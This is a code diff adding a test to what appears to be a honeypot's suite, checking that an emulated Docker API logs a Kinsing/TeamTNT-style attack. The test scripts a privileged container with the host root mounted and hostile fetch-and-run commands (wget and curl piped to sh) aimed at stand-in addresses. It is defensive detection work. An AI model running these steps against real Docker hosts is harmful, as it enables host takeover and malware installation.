@@ -10,6 +10,7 @@ import glob
 import hashlib
 import http.client
 import os
+import random
 import re
 import shutil
 import socket
@@ -41,6 +42,15 @@ def web_daemon(ctx, label, **svc_opts):
     """An http service and a trap (hand-over on); downloads off: URLs are logged only."""
     return ctx.daemon(label, [Service("web", protocol="http", **svc_opts),
                               Service("trap", flush_after="300ms")]).start()
+
+
+def identity(d, key):
+    """A value of the sensor's DATA_DIR/identity (drawn at first start)."""
+    with open(os.path.join(d.data_dir, "identity")) as f:
+        for line in f:
+            if line.startswith(key + "="):
+                return line.rstrip("\n").split("=", 1)[1]
+    return None
 
 
 def requests_of(evs):
@@ -304,6 +314,65 @@ def http_exploit_corpus(ctx):
             problems.append("url %s logged in %d sessions, not in both (have %d URLs)"
                             % (u, len(url_sessions.get(u, ())), len(url_sessions)))
     assert not problems, "\n".join(problems)
+
+
+@case
+def http_docker_api_real_client(ctx):
+    """Debian's Docker SDK for Python (python3-docker) against a trap on 2375: it pings, reads
+    version and info (the SSH shell's host and kernel), pulls, creates a container with the host's
+    root mounted, starts it and runs an exec, as Kinsing and TeamTNT do.  Every step answers as a
+    Debian 12 docker.io daemon; http.request events classify the create and exec as rce with their
+    commands, and the download URLs in them are logged.  Nothing runs."""
+    try:
+        import docker
+    except ImportError:
+        raise Skip("python3-docker not installed")
+    ip = "127.%d.%d.%d" % (random.randint(1, 250), random.randint(1, 250), random.randint(2, 250))
+    d = ctx.daemon("docker", [Service("trap", bind=ip, tcp_ports=[2375], flush_after="300ms")]).start()
+    api = docker.APIClient(base_url="tcp://%s:2375" % ip, version="auto", timeout=T(10))
+    assert api.ping() is True
+    ver, info = api.version(), api.info()
+    assert ver["ApiVersion"] == "1.41" and ver["Version"] == "20.10.24+dfsg1", ver
+    assert re.match(r"^6\.1\.0-\d+-amd64$", ver["KernelVersion"]) and info["KernelVersion"] == ver["KernelVersion"], (ver, info)
+    assert info["Name"] == identity(d, "hostname") and info["OperatingSystem"] == "Debian GNU/Linux 12 (bookworm)", info
+    assert info["NCPU"] >= 1 and info["MemTotal"] > 1 << 28, info
+    assert api.containers(all=True) == [] and api.images() == []
+    api.pull("alpine", tag="latest")
+    url1, url2 = "http://192.0.2.72/x.sh", "http://192.0.2.73/k"
+    c = api.create_container("alpine", command=["/bin/sh", "-c", "wget %s -O- | sh" % url1],
+                             host_config=api.create_host_config(binds=["/:/mnt"], privileged=True))
+    assert re.match(r"^[0-9a-f]{64}$", c["Id"]), c
+    api.start(c)
+    assert api.inspect_container(c["Id"])["State"]["Running"] is True
+    e = api.exec_create(c["Id"], ["sh", "-c", "curl -o /tmp/k %s; sh /tmp/k" % url2])
+    assert re.match(r"^[0-9a-f]{64}$", e["Id"]), e
+    api.exec_start(e["Id"], detach=True)
+    api.close()
+    # the bytes on the wire: Docker's headers, not nginx's
+    s = connect(2375, host=ip)
+    s.sendall(b"GET /_ping HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
+    raw = recv_until_eof(s)
+    s.close()
+    assert raw.startswith(b"HTTP/1.1 200 OK\r\n") and raw.endswith(b"\r\n\r\nOK"), raw
+    assert b"\r\nServer: Docker/20.10.24+dfsg1 (linux)\r\n" in raw and b"\r\nApi-Version: 1.41\r\n" in raw, raw
+    assert b"nginx" not in raw, raw
+    wait_for(lambda: len(requests_of(d.events())) >= 12, T(20), what="the client's requests")
+    time.sleep(0.5)
+    evs = stop_and_read(d)
+    reqs = requests_of(evs)
+    rules = [(r["method"], r["uri"].split("?")[0], r["rule"], r["status"]) for r in reqs]
+    for want in [("GET", "/_ping", "docker-ping", 200), ("POST", "/v1.41/containers/create", "docker-container-create", 201),
+                 ("POST", "/v1.41/containers/%s/start" % c["Id"], "docker-no-content", 204),
+                 ("POST", "/v1.41/exec/%s/start" % e["Id"], "docker-stream", 200)]:
+        assert want in rules, (want, rules)
+    create = [r for r in reqs if r["uri"].startswith("/v1.41/containers/create")][0]
+    assert "rce" in create["attack_classes"] and "docker-api-host-mount" in create["class_rules"], create
+    assert ["wget", url1, "-O-"] in create["injected"], create["injected"]
+    ex = [r for r in reqs if r["uri"].endswith("/exec") and r["method"] == "POST"][0]
+    assert ["curl", "-o", "/tmp/k", url2] in ex["injected"], ex["injected"]
+    logged = {x["url"] for x in evs if x["eventid"].startswith("session.file_download")}
+    assert url1 in logged and url2 in logged, logged
+    ctx.note("docker SDK %s: %d requests, kernel %s" % (docker.__version__, len(reqs), ver["KernelVersion"]))
 
 
 # ---- TLS ------------------------------------------------------------------------------------------
